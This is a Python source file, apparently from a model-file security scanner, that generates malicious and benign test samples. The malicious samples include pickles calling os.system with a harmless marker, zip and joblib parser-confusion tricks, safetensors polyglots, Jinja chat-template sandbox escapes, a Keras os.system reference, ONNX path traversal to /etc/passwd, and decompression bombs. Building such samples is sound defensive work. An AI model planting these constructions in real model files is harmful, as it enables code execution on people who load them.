        .unicode("float64")
        .raw(b"\x89\x88\x87")
        .reduce()
        .unicode("allow_mmap")
        .raw(b"\x89")
        .raw(b"u")
        .build()
        .bytes()
    )
    body = bytes(8 * n) + b"0" + payload0(tag)
    add(
        "evasion/dtype_name.joblib",
        wrapper + body + bytes(64 * n - len(body)) + b".",
        tag,
        "joblib array whose dtype is written 'float64' (8 bytes, not 64)",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "gzip-nul-padding"
    add(
        "evasion/padded.pkl.gz",
        gzip.compress(b"\x80\x02") + bytes(70000) + gzip.compress(payload0(tag)),
        tag,
        "a pickle split over two gzip members with NUL padding between them",
        "pickle-dangerous-global",
        loader="gzip-pickle",
        marker=tag,
    )
    tag = "npz-storage-name"
    npz = _build_zip(
        [
            ("archive/data.pkl", _dumps({"w": 1}, 2)),
            ("archive/data/0", _npy_object(_dumps(_Reduce(os.system, touch(tag)), 3))),
        ]
    )
    add(
        "evasion/storage_name.npz",
        npz,
        tag,
        "an .npz whose object array is named like a PyTorch tensor storage",
        "pickle-dangerous-global",
        loader="numpy-npz",
        marker=tag,
    )
    benign = _dumps({"w": 1}, 2)
    pad = bytes(70000)
    for tag, build, what in (
        (
            "zip-zip64-locator",
            _zip64_locator_trick,
            "PyTorch follows the ZIP64 locator, zipfile reads the record before it",
        ),
        (
            "zip-prefix-shift",
            _prefix_shift_trick,
            "zipfile shifts offsets by the bytes before the directory, PyTorch does not",
        ),
        (
            "zip-eocd-in-comment",
            _eocd_comment_trick,
            "a second end record hidden in the first one's comment",
        ),
    ):
        add(
            f"evasion/{tag}.pt",
            build(benign, _system(touch(tag)), pad),
            tag,
            what,
            "pickle-dangerous-global",
            loader="torch",
            marker=tag,
        )
    _joblib_evasion_samples(add, touch, payload0)
    tag = "torch-zip-protocol0"
    data_pkl = b"(S'storage'\nctorch\nFloatStorage\nS'0'\nS'cpu'\nI1\ntQ0" + payload0(tag)
    add(
        "evasion/protocol0_data_pkl.pt",
        _build_zip([*_torch_entries(data_pkl), ("archive/data/0", bytes(4))]),
        tag,
        "a torch zip whose data.pkl is protocol 0 and starts with a persistent id",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "legacy-build-on-class"
    module_pid = PickleAsm().mark().unicode("module").glob("argparse", "Namespace")
    module_pid.unicode("").unicode("").tuple().binpersid()
    main = module_pid.empty_dict().unicode("patched").binint(1).setitem().build().stop().bytes()
    add(
        "evasion/legacy_build_on_class.pt",
        _legacy_torch_bytes(b"\x80\x02" + main),
        tag,
        "legacy torch file whose persistent id hands back a class that BUILD then rewrites",
        "pickle-build-on-global",
        "high",
    )
    tag = "tar-storage-views"
    add(
        "evasion/storage_views.tar",
        _legacy_tar(_dumps({}, 2), views=_system(touch(tag))),
        tag,
        "payload in the storage-views pickle of a legacy tar checkpoint",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    del m


def _safetensors_bytes(
    tensors: dict[str, tuple[str, list[int], bytes]], extra_header: str = ""
) -> bytes:
    """A safetensors file written by hand: name -> (dtype, shape, raw bytes)."""
    entries, offset, data = [], 0, b""
    for name, (dtype, shape, raw) in tensors.items():
        entries.append(
            f'"{name}": {{"dtype": "{dtype}", "shape": {shape}, '
            f'"data_offsets": [{offset}, {offset + len(raw)}]}}'
        )
        offset += len(raw)
        data += raw
    header = "{" + ", ".join(entries) + extra_header + "}"
    header += " " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header.encode() + data


def _safetensors_zip_polyglot(evil_pickle: bytes) -> bytes:
    """A valid safetensors file whose last U8 tensor is a zip that PyTorch loads:
    the zip's end record ends the file, and its offsets count from the file's start."""
    weights = bytes(64)
    base = 0
    for _ in range(3):  # the header size depends on the zip's size, which depends on base
        entries = [*_torch_entries(evil_pickle), ("archive/data/0", bytes(4))]
        local, offsets = _locals(entries, base)
        central = _central(entries, offsets)
        archive = local + central + _eocd(len(entries), len(central), base + len(local))
        data = _safetensors_bytes(
            {"w": ("F32", [16], weights), "extra": ("U8", [len(archive)], archive)}
        )
        header_len = struct.unpack("<Q", data[:8])[0]
        new_base = 8 + header_len + len(weights)
        if new_base == base:
            return data
        base = new_base
    return data


def _safetensors_samples(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    w = ("F32", [4], bytes(16))
    tag = "safetensors-trailing-pickle"
    add(
        "safetensors/trailing_pickle.safetensors",
        _safetensors_bytes({"w": w}) + _dumps(_Reduce(os.system, touch(tag)), 4),
        tag,
        "a pickle appended after the last tensor",
        "safetensors-trailing-data",
        "medium",
    )
    tag = "safetensors-zip-polyglot"
    add(
        "safetensors/zip_polyglot.safetensors",
        _safetensors_zip_polyglot(_system(touch(tag))),
        tag,
        "a valid safetensors file whose last U8 tensor is a zip (zipfile-based loaders open it)",
        "safetensors-embedded-payload",
        "high",
    )
    tag = "safetensors-pickle-tensor"
    payload = _dumps(_Reduce(os.system, touch(tag)), 4)
    add(
        "safetensors/pickle_tensor.safetensors",
        _safetensors_bytes({"w": w, "blob": ("U8", [len(payload)], payload)}),
        tag,
        "a U8 tensor whose bytes are a pickle",
        "safetensors-embedded-payload",
        "high",
    )
    add(
        "safetensors/metadata_not_string.safetensors",
        _safetensors_bytes({"w": w}, ', "__metadata__": {"format": 1}'),
        "safetensors-metadata",
        "metadata values that are not strings",
        "safetensors-malformed",
        "medium",
    )
    add(
        "safetensors/overlap.safetensors",
        struct.pack("<Q", 112) + b'{"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, '
        b'"b": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}' + bytes(4),
        "safetensors-overlap",
        "two tensors over the same bytes",
        "safetensors-malformed",
        "medium",
    )
    dup = '{"w": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, '
    dup += '"w": {"dtype": "U8", "shape": [2], "data_offsets": [0, 2]}}'
    dup += " " * (-len(dup) % 8)
    add(
        "safetensors/duplicate_key.safetensors",
        struct.pack("<Q", len(dup)) + dup.encode() + bytes(4),
        "safetensors-duplicate-key",
        "the same tensor name twice, with different shapes",
        "safetensors-duplicate-key",
        "medium",
    )


def _gguf_string(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_bytes(metadata: dict[str, str | int], tensors: dict[str, int] | None = None) -> bytes:
    """A GGUF v3 file written by hand: string/uint32 metadata, F32 tensors of n elements."""
    tensors = tensors if tensors is not None else {"token_embd.weight": 8}
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(metadata))
    for key, value in metadata.items():
        out += _gguf_string(key)
        if isinstance(value, int):
            out += struct.pack("<II", 4, value)
        else:
            out += struct.pack("<I", 8) + _gguf_string(value)
    offset = 0
    for name, n in tensors.items():
        out += _gguf_string(name) + struct.pack("<I", 1) + struct.pack("<Q", n)
        out += struct.pack("<IQ", 0, offset)
        offset += 4 * n + (-4 * n % 32)
    out += bytes(-len(out) % 32)
    return out + bytes(offset)


LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}"
    "{% endif %}"
)


def _evil_template(command: str) -> str:
    return (
        LLAMA3_TEMPLATE
        + "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('"
        + command
        + "').read() }}"
    )


def _gguf_and_repository_samples(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    tag = "gguf-chat-template"
    add(
        "gguf/template_escape.gguf",
        gguf_bytes(
            {"general.architecture": "llama", "tokenizer.chat_template": _evil_template(touch(tag))}
        ),
        tag,
        "GGUF whose chat template escapes Jinja (CVE-2024-34359)",
        "chat-template-unsafe",
    )
    tag = "gguf-assembled-dunder"
    template = LLAMA3_TEMPLATE + "{{ cycler|attr('__in' ~ 'it__')|attr('__glob' ~ 'als__') }}"
    add(
        "gguf/assembled_dunder.gguf",
        gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template.tool_use": template}),
        tag,
        "a named chat template that builds dunder names from pieces",
        "chat-template-unsafe",
    )
    bad = bytearray(gguf_bytes({"general.architecture": "llama"}))
    bad[16:24] = struct.pack("<Q", 2**40)  # metadata count far beyond the file
    add(
        "gguf/absurd_counts.gguf",
        bytes(bad),
        "gguf-malformed",
        "a metadata count of 2**40",
        "gguf-malformed",
        "medium",
    )
    tag = "tokenizer-config-template"
    config = json.dumps({"bos_token": "<s>", "chat_template": _evil_template(touch(tag))})
    add(
        "repo_template/tokenizer_config.json",
        config.encode(),
        tag,
        "tokenizer_config.json with a sandbox-escaping chat template",
        "chat-template-unsafe",
    )
    tag = "chat-template-jinja"
    add(
        "repo_jinja/chat_template.jinja",
        _evil_template(touch(tag)).encode(),
        tag,
        "chat_template.jinja that escapes the sandbox",
        "chat-template-unsafe",
    )
    tag = "remote-code-modeling"
    add(
        "repo_remote/config.json",
        json.dumps(
            {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}
        ).encode(),
        tag,
        "config.json whose auto_map makes transformers import modeling_tiny.py",
        "remote-code",
        "medium",
    )
    add(
        "repo_remote/modeling_tiny.py",
        (
            f"import os\nimport torch\n\nclass TinyModel(torch.nn.Module):\n"
            f"    def __init__(self):\n        super().__init__()\n"
            f"        os.system({touch(tag)!r})\n"
        ).encode(),
        tag,
        "remote code that runs a shell command when the model is built",
        "python-dangerous-call",
        "high",
    )
    tag = "remote-code-external"
    add(
        "repo_external/config.json",
        json.dumps({"auto_map": {"AutoModel": "someone/other-repo--modeling.Model"}}).encode(),
        tag,
        "auto_map that pulls code from another repository",
        "remote-code-external",
        "high",
    )


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _pb(number: int, payload: bytes | int) -> bytes:
    """One protobuf field: length-delimited for bytes, varint for ints."""
    if isinstance(payload, int):
        return _varint(number << 3) + _varint(payload)
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def saved_model_bytes(ops: list[str], function_ops: list[str] | None = None) -> bytes:
    """A SavedModel protobuf with one meta graph whose nodes use ``ops``."""
    graph = b"".join(
        _pb(1, _pb(1, f"n{i}".encode()) + _pb(2, op.encode())) for i, op in enumerate(ops)
    )
    if function_ops:
        nodes = b"".join(_pb(3, _pb(1, b"f") + _pb(2, op.encode())) for op in function_ops)
        graph += _pb(2, _pb(1, _pb(1, _pb(1, b"fn")) + nodes))
    return _pb(1, 1) + _pb(2, _pb(2, graph))


def tflite_bytes(custom_codes: list[str]) -> bytes:
    """A minimal TFLite flatbuffer: a Model whose operator_codes carry ``custom_codes``."""
    out = bytearray(struct.pack("<I", 8) + b"TFL3")
    out += struct.pack("<iI", -8, 12)  # Model table at 8: vtable at 16, operator_codes at 24
    out += struct.pack("<HHHH", 8, 8, 0, 4)  # Model vtable: fields 0 (absent) and 1
    vector = len(out)
    out += struct.pack("<I", len(custom_codes)) + bytes(4 * len(custom_codes))
    for i, code in enumerate(custom_codes):
        table = len(out)
        struct.pack_into("<I", out, vector + 4 + 4 * i, table - (vector + 4 + 4 * i))
        out += struct.pack("<iI", -8, 12)  # OperatorCode: vtable right after, string after that
        out += struct.pack("<HHHH", 8, 8, 0, 4)
        raw = code.encode()
        out += struct.pack("<I", len(raw)) + raw + b"\x00" * (4 - len(raw) % 4)
    return bytes(out)


def _keras_archive(config: dict[str, Any]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return buf.getvalue()


def _keras_model(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


_DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "dense", "units": 3, "activation": "relu"},
    "registered_name": None,
}


def _graph_format_samples(add: Callable[..., None]) -> None:
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAAA=", "defaults": None},
            },
        },
    }
    add(
        "keras/lambda.keras",
        _keras_archive(_keras_model([_DENSE, lam])),
        "keras-lambda",
        "a Keras model with a Lambda layer (marshalled bytecode)",
        "keras-lambda",
    )
    external: dict[str, Any] = {
        "module": "os",
        "class_name": "system",
        "config": {},
        "registered_name": None,
    }
    add(
        "keras/external_module.keras",
        _keras_archive(_keras_model([_DENSE, external])),
        "keras-external-module",
        "a Keras config that imports os.system",
        "keras-external-reference",
        "high",
    )
    get_file = dict(
        _DENSE,
        config={
            "name": "d",
            "units": 1,
            "activation": {
                "module": "keras.src.utils.file_utils",
                "class_name": "function",
                "config": "get_file",
            },
        },
    )
    add(
        "keras/get_file.keras",
        _keras_archive(_keras_model([get_file])),
        "keras-safe-mode-bypass",
        "a config naming keras.utils.get_file (the CVE-2025-1550 pattern)",
        "keras-external-reference",
        "high",
    )
    add(
        "tensorflow/saved_model.pb",
        saved_model_bytes(["Placeholder", "ReadFile", "Identity"], function_ops=["WriteFile"]),
        "tf-file-ops",
        "a SavedModel whose graph and functions read and write files",
        "tf-dangerous-op",
        "high",
    )
    add(
        "tensorflow/model.tflite",
        tflite_bytes(["FlexWriteFile"]),
        "tflite-flex-op",
        "a TFLite model carrying a Flex WriteFile operator",
        "tf-file-write",
    )
    _onnx_samples(add)


def _onnx_samples(add: Callable[..., None]) -> None:
    try:
        from onnx import TensorProto, helper
    except ImportError:
        return
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    weight = helper.make_tensor("W", TensorProto.FLOAT, [4, 4], [0.0] * 16)
    weight.ClearField("float_data")
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/passwd"
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [x], [y], [weight]
    )
    model = helper.make_model(graph, producer_name="openward-samples")
    add(
        "onnx/external_escape.onnx",
        model.SerializeToString(),
        "onnx-external-escape",
        "ONNX external data at ../../../../etc/passwd",
        "onnx-external-data-escape",
        "high",
    )
    custom = helper.make_graph(
        [helper.make_node("Exfiltrate", ["X"], ["Y"], domain="com.evil")], "g", [x], [y]
    )
    model = helper.make_model(
        custom, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.evil", 1)]
    )
    add(
        "onnx/custom_op.onnx",
        model.SerializeToString(),
        "onnx-custom-op",
        "ONNX node from an unknown operator domain",
        "onnx-custom-operator",
        "medium",
    )
    # The custom op hides in a model-local function: the call itself is to a local
    # function (inlined by the runtime), the unknown domain is only inside its body.
    function = helper.make_function(
        "local.fn", "Wrap", ["X"], ["Y"],
        [helper.make_node("Exfiltrate", ["X"], ["Y"], domain="com.evil")],
        [helper.make_opsetid("com.evil", 1)],
    )  # fmt: skip
    wrapped = helper.make_graph(
        [helper.make_node("Wrap", ["X"], ["Y"], domain="local.fn")], "g", [x], [y]
    )
    model = helper.make_model(
        wrapped,
        functions=[function],
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local.fn", 1)],
    )
    add(
        "onnx/function_custom_op.onnx",
        model.SerializeToString(),
        "onnx-function-custom-op",
        "ONNX custom operator inside a model-local function",
        "onnx-custom-operator",
        "medium",
    )


def _joblib_wrapper(n: int) -> PickleAsm:
    """A NumpyArrayWrapper for n uint8 elements, up to (not including) its BUILD."""
    return (
        PickleAsm()
        .proto(4)
        .glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        .empty_tuple()
        .newobj()
        .empty_dict()
        .mark()
        .unicode("subclass")
        .glob("numpy", "ndarray")
        .unicode("shape")
        .binint(n)
        .tuple1()
        .unicode("order")
        .unicode("C")
        .unicode("dtype")
        .glob("numpy", "dtype")
        .unicode("u1")
        .raw(b"\x89\x88\x87")
        .reduce()
        .unicode("allow_mmap")
        .raw(b"\x89u")
    )


def _joblib_evasion_samples(
    add: Callable[..., None], touch: Callable[[str], str], payload0: Callable[[str], bytes]
) -> None:
    tag = "joblib-skip-in-plain-pickle"
    body = payload0(tag)[:-1] + b"0"  # the call, its result popped
    data = _joblib_wrapper(len(body)).build().raw(body).stop().bytes()
    add(
        "evasion/wrapper_in_plain_pickle.pkl",
        data,
        tag,
        "bytes joblib would skip after an array wrapper, run by pickle.load",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "joblib-class-swap"
    body = payload0(tag)[:-1] + b"0"
    swap = (
        _joblib_wrapper(len(body))
        .empty_dict()
        .unicode("__class__")
        .glob("argparse", "Namespace")
        .setitem()
        .tuple2()
        .build()
    )
    add(
        "evasion/class_swap.joblib",
        swap.raw(body).stop().bytes(),
        tag,
        "BUILD turns the array wrapper into a Namespace, so joblib skips nothing",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-factory-wrapper"
    body = payload0(tag)
    head = b"B" + struct.pack("<I", len(body))  # 5 array bytes that joblib skips
    factory = (
        PickleAsm()
        .proto(2)
        .glob("numpy.ma.core", "_mareconstruct")
        .mark()
        .glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        .glob("numpy", "ndarray")
        .raw(b"K\x00\x85")
        .unicode("b")
        .tuple()
        .reduce()
        .empty_dict()
        .mark()
        .unicode("shape")
        .raw(b"K\x05\x85")
        .unicode("order")
        .unicode("C")
        .unicode("dtype")
        .glob("numpy", "dtype")
        .mark()
        .unicode("u1")
        .tuple()
        .reduce()
        .unicode("allow_mmap")
        .raw(b"\x89u")
        .build()
    )
    add(
        "evasion/factory_wrapper.joblib",
        factory.raw(head + body[:-1] + b"0.").bytes(),
        tag,
        "an array wrapper made by numpy.ma.core._mareconstruct, which joblib still honours",
        "pickle-malformed",
        "high",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-zfile"
    raw = _dumps(_Reduce(os.system, touch(tag)), 2)
    header = b"ZF" + f"{len(raw):#x}".ljust(19).encode()
    add(
        "evasion/old_format.joblib",
        header + zlib.compress(raw),
        tag,
        "joblib's pre-0.10 'ZF' compressed format",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )


def _torch_entries(data_pkl: bytes) -> list[tuple[str, bytes]]:
    return [
        ("archive/data.pkl", data_pkl),
        ("archive/byteorder", b"little"),
        ("archive/version", b"3\n"),
    ]


def _locals(entries: list[tuple[str, bytes]], base: int) -> tuple[bytes, list[int]]:
    out = b""
    offsets = []
    for name, data in entries:
        raw = name.encode()
        offsets.append(base + len(out))
        out += (
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                0,
                0,
                0,
                0x21,
                zlib.crc32(data),
                len(data),
                len(data),
                len(raw),
                0,
            )
            + raw
            + data
        )
    return out, offsets


def _central(entries: list[tuple[str, bytes]], offsets: list[int], shift: int = 0) -> bytes:
    out = b""
    for (name, data), off in zip(entries, offsets, strict=True):
        raw = name.encode()
        out += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0x21,
                zlib.crc32(data),
                len(data),
                len(data),
                len(raw),
                0,
                0,
                0,
                0,
                0,
                off - shift,
            )
            + raw
        )
    return out


def _eocd(
    count: int, cd_size: int, cd_off: int, comment: bytes = b"", comment_len: int | None = None
) -> bytes:
    length = len(comment) if comment_len is None else comment_len
    return (
        struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_off, length)
        + comment
    )


def _build_zip(entries: list[tuple[str, bytes]]) -> bytes:
    local, offsets = _locals(entries, 0)
    central = _central(entries, offsets)
    return local + central + _eocd(len(entries), len(central), len(local))


def _zip64_locator_trick(benign: bytes, evil: bytes, pad: bytes) -> bytes:
    good, bad = _torch_entries(benign), _torch_entries(evil)
    lg, og = _locals(good, 0)
    lb, ob = _locals(bad, len(lg) + len(pad))
    cdb_off = len(lg) + len(pad) + len(lb)
    cdb = _central(bad, ob)
    rec_b_off = cdb_off + len(cdb)
    rec_b = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 3, len(cdb), cdb_off)
    cdg_off = rec_b_off + len(rec_b)
    cdg = _central(good, og)
    rec_g = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 3, len(cdg), cdg_off)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, rec_b_off, 1)
    return (
        lg + pad + lb + cdb + rec_b + cdg + rec_g + locator + _eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    )


def _prefix_shift_trick(benign: bytes, evil: bytes, pad: bytes) -> bytes:
    bad, good = _torch_entries(evil), _torch_entries(benign)
    lb, ob = _locals(bad, 0)
    lg, og = _locals(good, len(lb) + len(pad))
    cdb_off = len(lb) + len(pad) + len(lg)
    cdb = _central(bad, ob)
    cdg = _central(good, og, shift=len(cdb))
    return lb + pad + lg + cdb + cdg + _eocd(3, len(cdb), cdb_off)


def _eocd_comment_trick(benign: bytes, evil: bytes, pad: bytes) -> bytes:
    good, bad = _torch_entries(benign), _torch_entries(evil)
    lg, og = _locals(good, 0)
    lb, ob = _locals(bad, len(lg) + len(pad))
    cdb_off = len(lg) + len(pad) + len(lb)
    cdb = _central(bad, ob)
    cdg_off = cdb_off + len(cdb)
    cdg = _central(good, og)
    inner = _eocd(3, len(cdb), cdb_off, comment_len=0xFFFF)
    return lg + pad + lb + cdb + cdg + _eocd(3, len(cdg), cdg_off, comment=inner)


def _npy_object(pickled: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return (
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + pickled
    )


def _joblib_like(obj: Any) -> bytes:
    try:
        import joblib

        buf = io.BytesIO()
        joblib.dump({"model": obj, "meta": {"n": 1}}, buf)
        return buf.getvalue()
    except ImportError:
        return _dumps({"model": obj, "meta": {"n": 1}}, 4)


def _tar(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            t.addfile(info)
    return buf.getvalue()


def _legacy_tar(
    pickle_member: bytes, storage_payload: bytes | None = None, views: bytes | None = None
) -> bytes:
    """PyTorch's tar checkpoint layout: sys_info, pickle, storages, tensors."""
    storages = _dumps(2, 2)
    for i in range(2):
        record = storage_payload if (storage_payload is not None and i == 1) else None
        if record is None:
            record = (
                PickleAsm()
                .proto(2)
                .mark()
                .unicode(str(i))
                .unicode("cpu")
                .glob("torch", "FloatStorage")
                .tuple()
                .stop()
                .bytes()
            )
        storages += record + struct.pack("<q", 2) + bytes(8)
    storages += views if views is not None else _dumps([], 2)  # the storage views
    tensors = _dumps(0, 2)
    return _tar(
        {
            "sys_info": _dumps({"protocol_version": PROTOCOL_VERSION}, 2),
            "pickle": pickle_member,
            "storages": storages,
            "tensors": tensors,
        }
    )


def _sevenzip(files: dict[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in files.items():
            z.writestr(data, name)
    return buf.getvalue()


def _xz_bomb() -> bytes:
    comp = lzma.LZMACompressor(preset=1)
    chunk = bytes(1 << 20)
    out = [comp.compress(chunk) for _ in range(256)]
    out.append(comp.flush())
    return b"".join(out)


def _overlapping_zip() -> bytes:
    """Fifield's construction, simplified: many central entries, one shared local file."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = kernel.compress(bytes(1 << 20)) + kernel.flush()
    crc = zlib.crc32(bytes(1 << 20))
    name = b"k"
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), 1 << 20, len(name), 0
    )
    body = local + name + data
    central = b""
    count = 16
    for i in range(count):
        nm = f"f{i}".encode()
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(data),
                1 << 20,
                len(nm),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + nm
        )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(body), 0)
    return body + central + eocd


def _hidden_member_zip(hidden: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", b"first")
        z.writestr("b.txt", b"second")
    raw = buf.getvalue()
    # insert the hidden bytes after the first member, then fix the offsets that follow
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        second = z.getinfo("b.txt").header_offset
    data = bytearray(raw[:second] + hidden + raw[second:])
    shift = len(hidden)
    eocd = data.rfind(b"PK\x05\x06")
    cd_off = struct.unpack_from("<I", data, eocd + 16)[0] + shift
    struct.pack_into("<I", data, eocd + 16, cd_off)
    pos = cd_off
    while data[pos : pos + 4] == b"PK\x01\x02":
        lh = struct.unpack_from("<I", data, pos + 42)[0]
        if lh >= second:
            struct.pack_into("<I", data, pos + 42, lh + shift)
        n, e, c = struct.unpack_from("<HHH", data, pos + 28)
        pos += 46 + n + e + c
    return bytes(data)


# ---------------------------------------------------------------------------
# Benign samples
# ---------------------------------------------------------------------------


def build_benign(out: Path, *, use_libraries: bool = True) -> list[Sample]:
    """Write legitimate files a scanner must pass (no finding at medium or above)."""
    out.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, data: bytes, technique: str, description: str) -> None:
        target = out / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        samples.append(Sample(name, technique, description, False))

    plain: dict[str, Any] = {
        "dict": {"lr": 0.001, "epochs": 3, "layers": [64, 64], "name": "tiny"},
        "list": [1, 2.5, "three", None, True, b"bytes", (1, 2)],
        "ordereddict": collections.OrderedDict([("w", [0.1, 0.2]), ("b", [0.0])]),
        "containers": {
            "set": {1, 2},
            "frozenset": frozenset({3}),
            "bytearray": bytearray(b"ab"),
            "complex": 1 + 2j,
            "range": range(3),
            "slice": slice(1, 2),
        },
        "checkpoint": {
            "args": argparse.Namespace(lr=0.1, arch="tiny"),
            "epoch": 3,
            "saved": datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
            "counter": collections.Counter("aab"),
            "path": Path("runs/1"),
        },
    }
    for kind, obj in plain.items():
        for proto in range(6):
            add(
                f"pickle/{kind}_p{proto}.pkl",
                _dumps(obj, proto),
                f"pickle-{kind}",
                f"plain pickle of {kind}, protocol {proto}",
            )
    add(
        "config.json",
        b'{"architectures": ["LlamaForCausalLM"], "hidden_size": 64}\n',
        "json",
        "config",
    )
    add("README.md", b"# tiny model\n\nA test model.\n", "text", "model card")
    _benign_repository(add)
    tensors = {"embed.weight": (8, 4), "layer.0.weight": (4, 4), "layer.0.bias": (4,)}
    storages = {str(i): bytes(4 * _numel(s)) for i, s in enumerate(tensors.values())}
    if not (use_libraries and _try_torch(out, add)):
        path = out / "torch/handmade_state.pt"
        path.parent.mkdir(parents=True, exist_ok=True)
        _write_torch_zip(path, _torch_data_pkl(tensors), storages=storages)
        samples.append(
            Sample(
                "torch/handmade_state.pt", "torch-zip", "state_dict in torch's zip layout", False
            )
        )
    if use_libraries:
        _try_gguf(out, add)
        _try_numpy(out, add)
        _try_joblib(out, add)
        _try_safetensors(out, add)
    from openward._zoo import extend_benign

    extend_benign(add)
    return samples


def _benign_repository(add: Callable[[str, bytes, str, str], None]) -> None:
    tokenizer_config = {
        "bos_token": "<|begin_of_text|>",
        "eos_token": "<|eot_id|>",
        "chat_template": LLAMA3_TEMPLATE,
        "tokenizer_class": "PreTrainedTokenizerFast",
    }
    add(
        "repo/tokenizer_config.json",
        json.dumps(tokenizer_config, indent=2).encode(),
        "tokenizer-config",
        "tokenizer_config.json with the Llama 3 chat template",
    )
    add(
        "repo/chat_template.jinja",
        LLAMA3_TEMPLATE.encode(),
        "chat-template",
        "Llama 3 chat template",
    )
    add(
        "repo/generation_config.json",
        b'{"bos_token_id": 1, "eos_token_id": 2, "do_sample": true}',
        "generation-config",
        "generation_config.json",
    )
    config = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64}
    add(
        "repo/config.json",
        json.dumps(config).encode(),
        "model-config",
        "config.json without remote code",
    )
    add(
        "repo/utils.py",
        b"import json\n\n\ndef load(path):\n"
        b"    with open(path) as f:\n        return json.load(f)\n",
        "python-helper",
        "a harmless helper script",
    )
    add(
        "keras/dense.keras",
        _keras_archive(_keras_model([_DENSE])),
        "keras",
        "a Keras model of Dense layers",
    )
    add(
        "tensorflow/saved_model.pb",
        # Checkpoint ops are only legitimate in the functions a SaverDef names:
        # see openward._zoo.keras_tf_torchscript for SavedModels with a saver.
        saved_model_bytes(["Placeholder", "MatMul", "Relu", "Identity"]),
        "tf-saved-model",
